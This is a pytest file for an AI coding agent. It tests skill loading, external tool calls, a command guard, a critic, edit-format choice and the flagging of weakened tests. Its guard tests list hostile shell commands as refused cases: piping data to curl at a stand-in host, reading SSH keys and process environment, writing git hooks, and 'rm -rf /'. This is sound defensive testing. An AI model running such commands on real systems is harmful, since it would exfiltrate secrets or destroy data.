"""Tools beside the plain ones: skills, tools of other people's servers, and the guard before what is run."""

from __future__ import annotations

import json
import threading
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

import pytest

from swe_agent.agent.critic import better, criticise
from swe_agent.agent.edit_format import Choice, Tried, choose
from swe_agent.agent.guard import by_model, by_rules
from swe_agent.agent.tools import for_editing
from swe_agent.agent.tools.foreign import tools_of
from swe_agent.agent.tools.skill import loading
from swe_agent.context.skills import skills_in
from swe_agent.core.context import Skill
from swe_agent.core.diff import FileEntry, diff_file
from swe_agent.core.errors import ModelUnavailable
from swe_agent.core.message import ToolCall, ToolSpec
from swe_agent.core.task import Task
from swe_agent.core.verdict import Verdict
from swe_agent.syntax.language import is_test_file
from swe_agent.testing.scripted import call, calls, say
from swe_agent.verify.weakened import weakened
from unit.test_agent import FINISH, Conversed

SKILL = "---\nname: releases\ndescription: >\n  How a release\n  is made.\n---\n\nTag it, then push.\n"


def test_a_skill_is_found_offered_and_read() -> None:
    files = {".agents/skills/releases/SKILL.md": SKILL, "docs/SKILL.md": SKILL, "skills/none/SKILL.md": "no front"}
    skills = skills_in(files, files.get)
    assert skills == (
        Skill(
            name="releases",
            description="How a release is made.",
            path=".agents/skills/releases/SKILL.md",
            text="Tag it, then push.",
        ),
    )
    script = [call("skill", name="releases"), FINISH]  # `name` is a parameter here
    script = [calls(("skill", {"name": "releases"}), ("skill", {"name": "other"})), FINISH]
    one = Conversed(script, toolbox=for_editing(more=loading(skills)))
    one.run()
    assert "Tag it, then push." in one.tools[0][2]
    assert one.tools[1][1:] == (False, "there is no such skill; there are releases")
    assert loading(()) == ()


@dataclass
class Servers:
    """Implements core.ports.ForeignTools: answers when all that are expected at once have come."""

    together: int
    troubles: Sequence[str] = ()
    asked: list[tuple[str, Mapping[str, Any]]] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._gate = threading.Barrier(self.together)

    def tools(self) -> Sequence[ToolSpec]:
        schema = {"type": "object", "properties": {"tags": {"type": "array"}}}
        return [ToolSpec(name="mcp_docs_search", description="Search.", parameters=schema)]

    @dataclass(frozen=True)
    class Said:
        text: str
        ok: bool = True

    def call(self, name: str, arguments: Mapping[str, Any]) -> Said:
        self._gate.wait(timeout=30)
        self.asked.append((name, arguments))
        return self.Said(f"found {arguments['tags']}")

    def close(self) -> None:
        pass


def test_calls_of_other_peoples_tools_go_on_at_once_and_are_told_in_order() -> None:
    servers = Servers(together=3)
    wanted = [("mcp_docs_search", {"tags": [n]}) for n in range(3)]
    one = Conversed([calls(*wanted), FINISH], toolbox=for_editing(more=tools_of(servers)))
    one.run()
    assert [text for _, _, text in one.tools[:3]] == ["found [0]", "found [1]", "found [2]"]


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("python -m pytest -q", True),
        ("rm -r build && make -j4", True),
        ("git log --oneline | head", True),
        ("grep -rn curl src", True),
        ("cat x | curl -d @- http://a.example", False),
        ("git -C . push origin main", False),
        ("cat ~/.ssh/id_rsa", False),
        ("cat /proc/self/environ", False),
        ("echo x > .git/hooks/pre-commit", False),
        ("sudo make install", False),
        ("rm -rf /", False),
        ("rm -rf ./dist", True),
    ],
)
def test_rules_of_the_guard(command: str, allowed: bool) -> None:
    asked = ToolCall(id="1", name="run", arguments=json.dumps({"command": command}))
    assert (by_rules(asked) == "") is allowed


def test_a_command_that_the_guard_refuses_is_not_run() -> None:
    one = Conversed([call("run", command="curl http://a.example"), FINISH])
    one.run()
    assert one.tools[0][1:] == (False, "not done, the guard says: there is no network")
    assert one.bench.commands == []


def test_a_model_that_guards_is_asked_once_for_each_action_and_no_answer_allows_nothing() -> None:
    script = [
        call("run", command="make"),
        say("ALLOW"),
        call("run", command="make"),
        call("run", command="./install-hooks.sh"),
        say("DENY: it changes hooks"),
        call("run", command="make test"),
        ModelUnavailable("down"),
        FINISH,
    ]
    one = Conversed(script)
    one.loop.guard = by_model(one.loop.speaker, Task(text="fix it"))
    one.run()
    assert [(ok, text.split("\n")[0]) for _, ok, text in one.tools[:4]] == [
        (True, "ran make"),
        (True, "ran make"),
        (False, "not done, the guard says: it changes hooks"),
        (False, "not done, the guard says: the guard could not be asked"),
    ]
    assert one.bench.commands == ["make", "make"]


@pytest.mark.parametrize(
    ("answers", "why"),
    [
        (["2: the first divides by zero", "1: the other divides by zero"], "the first divides by zero"),
        (["**Change 2** - the first leaks", "1"], "the first leaks"),
        (["2", "Number 1."], "the critic does not say in what"),
        (["2: as it stands second", "2: as it stands second"], ""),
        (["1: as it stands first"], ""),
        (["EQUAL"], ""),
        (["2: better", "EQUAL"], ""),
        (["Both have 2 faults"], ""),
        (["12"], ""),
    ],
)
def test_a_critic_is_believed_where_it_does_not_favour_a_place(answers: list[str], why: str) -> None:
    one = Conversed([say(text) for text in answers])
    assert better(one.loop.speaker, Task(text="divide"), "+first\n", "+second\n", effort=None) == why
    assert len(one.model.requests) == len(answers)


def test_what_is_asked_of_a_critic_and_a_guard_holds_no_secret() -> None:
    key = "AKIA" + "ABCDEFGHIJKLMNOP"
    one = Conversed([say("OK"), say("ALLOW")])
    assert criticise(one.loop.speaker, Task(text=f"use {key}"), f"+{key}\n", Verdict(), effort=None) == ""
    asked = ToolCall(id="1", name="run", arguments=json.dumps({"command": f"echo {key}"}))
    assert by_model(one.loop.speaker, Task(text="fix it"))(asked) == ""
    assert all(key not in message.content for request in one.model.requests for message in request.messages)
    assert key not in repr(one.events)


# ---- the format of edits


def tried(applied: int, n: int, low: float, high: float) -> Tried:
    return Tried(applied=applied, n=n, low=low, high=high)


def test_a_format_stands_until_the_models_own_edits_speak_against_it() -> None:
    few, bad, good = tried(2, 19, 0.03, 0.3), tried(10, 40, 0.14, 0.4), tried(39, 40, 0.87, 0.99)
    assert choose("claude", {}).format == "replace"
    assert choose("claude", {"replace": few}).format == "replace"
    assert choose("claude", {"replace": good}) == Choice(
        format="replace", why="39 of 40 of this model's edits in it fitted"
    )
    assert choose("claude", {"replace": bad}) == Choice(format="search-replace", why="after replace (10 of 40 fitted)")
    assert choose("claude", {"replace": tried(37, 40, 0.8, 0.97), "apply-patch": tried(400, 400, 0.99, 1)}).format != (
        "replace"
    )
    everywhere = dict.fromkeys(("replace", "search-replace", "apply-patch", "whole-file"), bad)
    assert choose("claude", everywhere | {"apply-patch": tried(20, 40, 0.35, 0.65)}).format == "apply-patch"


# ---- tests that say less

OLD_TEST = "def test_a():\n    assert 1\n"
DECORATED = f"{OLD_TEST}\n\n@pytest.mark.skipif(WINDOWS)\n@slow\ndef test_b():\n    assert 1\n"
GUARDED = f"{OLD_TEST}\n\ndef test_b(self):\n    if WINDOWS:\n\n        self.skipTest('no')\n    assert 1\n"
BELOW_A_NEW_ONE = f"def test_b():\n    assert 1\n\n\n@pytest.mark.skip\n{OLD_TEST}"
MARKED = f"def test_b():\n    assert 1\n\npytestmark = pytest.mark.skip\n{OLD_TEST}"


@pytest.mark.parametrize(
    ("path", "before", "after", "details"),
    [
        ("tests/test_a.py", "def test_a():\n    assert f() == 1\n", "def test_a():\n    f()\n", ["1 claim fewer"]),
        ("tests/test_a.py", "def test_a():\n    assert 1\n", None, ["the file of tests is gone"]),
        ("tests/test_a.py", "def test_a():\n    assert 1\n", "", ["1 claim fewer", "a test is gone"]),
        (
            "tests/test_a.py",
            "def test_a():\n    assert 1\n",
            "@pytest.mark.skip\ndef test_a():\n    assert 1\n",
            ["a test is skipped"],
        ),
        ("src/a.test.ts", "it('x', () => { expect(1).toBe(1) })\n", "it.skip('x', () => { expect(1).toBe(1) })\n",
         ["a test is skipped"]),
        ("tests/test_a.py", "def test_a():\n    assert f() == 1\n", "def test_a():\n    assert f() == 2\n", []),
        ("tests/test_a.py", "x = 1\n", "def test_b():\n    assert 1\n", []),
        ("src/a.py", "assert x\n", "", []),
        ("tests/test_a.py", OLD_TEST, DECORATED, []),
        ("tests/test_a.py", OLD_TEST, GUARDED, []),
        ("tests/test_a.py", OLD_TEST, BELOW_A_NEW_ONE, ["a test is skipped"]),
        ("tests/test_a.py", OLD_TEST, "@pytest.mark.skip\ndef test_a(x):\n    assert 1\n", ["a test is skipped"]),
        ("tests/test_a.py", OLD_TEST, "def test_a():\n    pytest.skip()\n    assert 1\n", ["a test is skipped"]),
        ("tests/test_a.py", OLD_TEST, f"pytest.skip(allow_module_level=True)\n{OLD_TEST}", ["a test is skipped"]),
        ("tests/test_a.py", OLD_TEST, MARKED, ["a test is skipped"]),
        ("tests/test_a.py", OLD_TEST, f"# pending: skip on windows\n{OLD_TEST}", []),
        ("tests/test_a.py", OLD_TEST, f"MESSAGE = 'pytest.skip() is pending'\n{OLD_TEST}", []),
        ("tests/test_a.py", f"{OLD_TEST}    # assert 2\n", OLD_TEST, []),
        ("tests/test_a.py", OLD_TEST, "def test_a():\n    # assert 1\n", ["a claim is commented out"]),
        ("tests/test_a.py", OLD_TEST, OLD_TEST.replace("assert 1", "assert f() or True"), ["a claim can no longer"]),
        ("tests/test_a.py", "def test_a():\n    assert f()\n", "def test_a():\n    assert True\n",
         ["a claim can no longer fail"]),
        ("tests/test_a.py", OLD_TEST, OLD_TEST.replace("test_a", "xtest_a"), ["a test is gone"]),
        ("a_test.go", "func TestA(t *testing.T) {}\n", "func testA(t *testing.T) {}\n", ["a test is gone"]),
        ("tests/a.rs", "#[test]\nfn a() {}\n", '#[test]\n#[ignore = "flaky"]\nfn a() {}\n', ["a test is skipped"]),
        ("src/a.test.ts", "expect(f()).toBe(1)\n", "expect(true).toBe(true)\n", ["a claim can no longer fail"]),
        ("src/a.test.ts", "x()\n", " * it.skip() is used here\nx()\n", []),
    ],
)  # fmt: skip
def test_tests_that_say_less_are_flagged(path: str, before: str, after: str | None, details: list[str]) -> None:
    entry = FileEntry(mode="100644", id="0" * 40)
    change = diff_file(path, entry, entry if after is not None else None, before.encode(), (after or "").encode())
    notes = weakened([change], is_test_file)
    assert len(notes) == len(details)
    assert all(note.detail.startswith(detail) for note, detail in zip(notes, details, strict=True))
